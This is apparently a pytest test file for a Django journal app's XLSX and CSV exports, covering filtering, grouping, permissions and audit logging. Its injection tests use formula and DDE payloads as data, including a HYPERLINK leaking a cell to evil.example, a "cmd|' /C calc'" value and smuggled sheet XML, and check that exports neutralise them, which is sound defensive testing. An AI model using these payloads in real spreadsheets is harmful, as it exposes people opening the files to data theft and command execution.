"""Exporting a tab's filtered list to XLSX and CSV from the list page (small exports, served at once)."""

import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from django.utils import timezone
from openpyxl.utils.escape import unescape

from eventlog.models import Entry

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def workbook_rows(response) -> list[tuple]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return list(sheet.iter_rows())


def csv_text(response) -> str:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    return b"".join(response.streaming_content).decode("utf-8")


def ago(**delta) -> dt.datetime:
    return timezone.now() - dt.timedelta(**delta)


def test_xlsx_holds_the_filtered_rows_with_header_ids_real_dates_and_numbers(admin_client, make_entry):
    older = make_entry(
        "erp-sync", event_type="import", severity="error", message="Import z ERP przerwany",
        data={"size_bytes": 1_343_000}, occurred_at=ago(hours=3),
    )  # fmt: skip
    newer = make_entry(
        "erp-sync", event_type="product_problem", severity="error", message="Brak ceny produktu „Miód” (K-1)",
        occurred_at=ago(hours=1),
    )  # fmt: skip
    make_entry("erp-sync", event_type="import", severity="info", message="Import z ERP zakończony")
    make_entry("sms", severity="error", message="Another tab")

    response = admin_client.get("/journal/erp-sync/export.xlsx?severity=error")

    assert response["Content-Disposition"].startswith('attachment; filename="erp-sync-')
    header, *rows = workbook_rows(response)
    assert [c.value for c in header] == ["Entry id", "Date", "Event", "Data size (B)", "Additional info", "Severity"]
    # Only the errors of this tab, newest first, like the list.
    assert [r[0].value for r in rows] == [newer.pk, older.pk]
    first = rows[1]
    assert first[0].data_type == "n"
    assert isinstance(first[1].value, dt.datetime)
    local = timezone.localtime(older.occurred_at).replace(tzinfo=None)
    assert abs(first[1].value - local) < dt.timedelta(seconds=1)
    assert first[2].value == "Import from ERP"
    assert first[3].value == 1_343_000 and first[3].data_type == "n"
    assert first[4].value == "Import z ERP przerwany"
    assert first[5].value == "Error"
    assert rows[0][2].value == "Problem with a product" and rows[0][3].value is None
    assert rows[0][4].value == "Brak ceny produktu „Miód” (K-1)"


def test_csv_holds_the_same_rows_in_utf8_with_a_byte_order_mark(admin_client, make_entry):
    entry = make_entry(
        "offers", event_type="price_change", severity="warning", service="allegro", account="sklep_żółw",
        object_id="7788", message="Zmiana ceny odrzucona: „Świeca”", occurred_at=ago(minutes=5),
    )  # fmt: skip
    make_entry("offers", severity="info", service="ebay", message="Not a warning")

    text = csv_text(admin_client.get("/journal/offers/export.csv?severity=warning&group=0"))

    assert text.startswith("\ufeff")
    lines = text.lstrip("\ufeff").splitlines()
    assert lines[0] == "Entry id,Date,Event type,Offer number,Login,Service,Severity,Message"
    when = timezone.localtime(entry.occurred_at).strftime("%Y-%m-%d %H:%M:%S")
    assert lines[1:] == [
        f"{entry.pk},{when},Price change,7788,sklep_żółw,Allegro,Warning,Zmiana ceny odrzucona: „Świeca”"
    ]


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_text_that_starts_like_a_formula_stays_text_in_xlsx(admin_client, make_entry, start):
    text = f'{start}HYPERLINK("http://evil.example/?x="&A1,"Kliknij")'
    make_entry("email", severity="error", object_id=f"{start}cmd|' /C calc'!A0", message=text)

    header, row = workbook_rows(admin_client.get("/journal/email/export.xlsx"))

    labels = [c.value for c in header]
    message = row[labels.index("Error")]
    recipient = row[labels.index("Recipient")]
    for cell, expected in ((message, text), (recipient, f"{start}cmd|' /C calc'!A0")):
        assert cell.data_type == "s"
        assert unescape(cell.value) == expected  # a carriage return is stored as _x000D_
        assert cell.quotePrefix is True  # Excel and LibreOffice show it as typed, and keep it text


def test_the_xlsx_file_holds_no_formula_at_all(admin_client, make_entry):
    for start in FORMULA_STARTS:
        make_entry("email", severity="error", message=f"{start}1+1")
    response = admin_client.get("/journal/email/export.xlsx")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_text_that_starts_like_a_formula_gets_an_apostrophe_in_csv(admin_client, make_entry, start):
    make_entry("email", severity="error", message=f"{start}SUM(1+1)*cmd", object_id="klient@example.com")

    text = csv_text(admin_client.get("/journal/email/export.csv"))

    assert f"'{start}SUM(1+1)*cmd" in text
    # Numbers stay numbers: the id column is not prefixed.
    assert text.lstrip("\ufeff").splitlines()[1].split(",")[0].isdigit()


def test_outside_text_cannot_smuggle_cells_into_the_sheet_xml(admin_client, make_entry):
    """XlsxWriter's constant_memory mode would write "<r>…</r>" unescaped, as its own markup."""
    evil = (
        '<r><t>a</t></r></is></c><c r="Z1"><f>HYPERLINK("http://evil.example")</f></c>'
        '<c r="Z2" t="inlineStr"><is><r><t>b</t></r>'
    )
    make_entry("email", severity="error", message=evil)

    response = admin_client.get("/journal/email/export.xlsx")
    content = b"".join(response.streaming_content)
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet.max_column == 6  # id, date, recipient, subject, error, severity: nothing added
    assert sheet.cell(2, 5).value == evil


def test_only_unique_messages_exports_groups_with_count_first_and_latest(admin_client, make_entry):
    for hours in (5, 3, 1):
        newest = make_entry(
            "offers", event_type="stock_check", severity="warning", service="allegro", object_id="OF-1",
            message="Brak stanu dla oferty", occurred_at=ago(hours=hours),
        )  # fmt: skip
    single = make_entry(
        "offers", event_type="offer_listed", service="ebay", object_id="OF-2", message="Wystawiono",
        occurred_at=ago(hours=2),
    )  # fmt: skip

    header, *rows = workbook_rows(admin_client.get("/journal/offers/export.xlsx?group=1"))

    assert [c.value for c in header][:4] == ["Entry id", "Count", "First occurrence", "Latest occurrence"]
    assert "Date" not in [c.value for c in header]
    assert [(r[0].value, r[1].value) for r in rows] == [(newest.pk, 3), (single.pk, 1)]
    assert rows[0][2].value < rows[0][3].value  # first and latest are real dates
    assert isinstance(rows[0][3].value, dt.datetime)


def test_offers_export_follows_the_list_and_groups_by_default(admin_client, make_entry):
    for _ in range(2):
        make_entry("offers", service="allegro", object_id="OF-9", message="Ta sama wiadomość")
    header, *rows = workbook_rows(admin_client.get("/journal/offers/export.xlsx"))
    assert header[1].value == "Count" and len(rows) == 1
    # A single object's timeline shows every entry, as the list does.
    header, *rows = workbook_rows(admin_client.get("/journal/offers/export.xlsx?object_id=OF-9"))
    assert header[1].value != "Count" and len(rows) == 2


def test_paging_parameters_do_not_cut_the_export(admin_client, make_entry):
    entries = [make_entry("sms", occurred_at=ago(minutes=m)) for m in (1, 2, 3)]
    rows = workbook_rows(admin_client.get(f"/journal/sms/export.xlsx?older=1_{entries[0].pk}"))[1:]
    assert len(rows) == 3


def test_every_export_is_recorded_in_the_tab(admin_client, make_entry):
    make_entry("sms", severity="error")
    make_entry("sms", severity="error")
    make_entry("sms", severity="info")

    admin_client.get("/journal/sms/export.csv?severity=error")

    record = Entry.objects.get(tab="sms", event_type="records_exported")
    assert record.actor == "alice" and record.initiator == "manual"
    assert record.data == {"query": "severity=error", "format": "csv", "rows": 2, "grouped": False}
    # Stored in the shop's language; the list shows it, like any other entry, in the reader's.
    assert record.message == "Wyeksportowano wpisy do CSV: 2 (użytkownik alice)."
    assert (
        "Entries exported to CSV: 2 (user alice)." in admin_client.get("/journal/sms/?event_type=records_exported").text
    )


@pytest.mark.parametrize(("group", "kept"), [("x" * 40_000, "0"), ("1", "1")])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_records_its_grouping_choice_not_the_raw_value(admin_client, make_entry, fmt, group, kept):
    make_entry("sms", severity="error")
    response = admin_client.get(f"/journal/sms/export.{fmt}?severity=error&group={group}&stray={'y' * 40_000}")
    assert response.status_code == 200
    record = Entry.objects.get(tab="sms", event_type="records_exported")
    assert record.data["query"] == f"severity=error&group={kept}" and record.data["grouped"] == (kept == "1")


def test_bad_filters_send_the_user_back_to_the_list_and_export_nothing(admin_client, make_entry):
    make_entry("sms")
    response = admin_client.get("/journal/sms/export.xlsx?date_from=yesterday")
    assert response.status_code == 302
    assert response["Location"] == "/journal/sms/?date_from=yesterday"
    assert admin_client.get(response["Location"]).status_code == 400
    assert not Entry.objects.filter(event_type="records_exported").exists()


def test_support_staff_export_and_people_without_a_role_cannot(support_client, charlie, client, make_entry):
    make_entry("sms", severity="error", message="Bramka odrzuciła SMS")
    assert "Bramka odrzuciła SMS" in csv_text(support_client.get("/journal/sms/export.csv"))
    assert Entry.objects.get(event_type="records_exported").actor == "bob"

    client.force_login(charlie)
    assert client.get("/journal/sms/export.csv").status_code == 403
    assert client.get("/journal/sms/export.xlsx").status_code == 403
    assert client.get("/journal/sms/export/links/").status_code == 403


def test_an_unknown_tab_is_404(admin_client):
    assert admin_client.get("/journal/no-such-tab/export.xlsx").status_code == 404


def test_list_page_offers_export_buttons_with_its_filters(admin_client, make_entry):
    make_entry("sms", severity="error")
    page = admin_client.get("/journal/sms/?severity=error&q=bramka").text
    assert "Export XLSX" in page
    assert 'href="/journal/sms/export.xlsx?severity=error&amp;q=bramka"' in page
    assert 'href="/journal/sms/export.csv?severity=error&amp;q=bramka"' in page
    # htmx asks for fresh links, with the form's fields, whenever the results change.
    assert 'hx-get="/journal/sms/export/links/"' in page and 'hx-include=".filter-form"' in page


def test_fresh_export_links_carry_the_form_without_paging(admin_client):
    response = admin_client.get(
        "/journal/sms/export/links/?severity=warning&group=0&group=1&older=5_5", HTTP_HX_REQUEST="true"
    )
    assert response.status_code == 200
    assert 'href="/journal/sms/export.xlsx?severity=warning&amp;group=0&amp;group=1"' in response.text
    assert "older" not in response.text


def test_an_export_reads_chunk_after_chunk_without_losing_or_repeating_ties(admin_client, make_entry, monkeypatch):
    """Chunks continue by keyset on (time, id): entries of the same second are each exported once."""
    from eventlog.exports import query

    monkeypatch.setattr(query, "CHUNK_ROWS", 2)
    same_second = ago(minutes=5)
    entries = [make_entry("sms", occurred_at=same_second) for _ in range(5)] + [make_entry("sms")]
    rows = workbook_rows(admin_client.get("/journal/sms/export.xlsx"))
    expected = sorted(entries, key=lambda e: (e.occurred_at, e.pk), reverse=True)
    assert [row[0].value for row in rows[1:]] == [e.pk for e in expected]
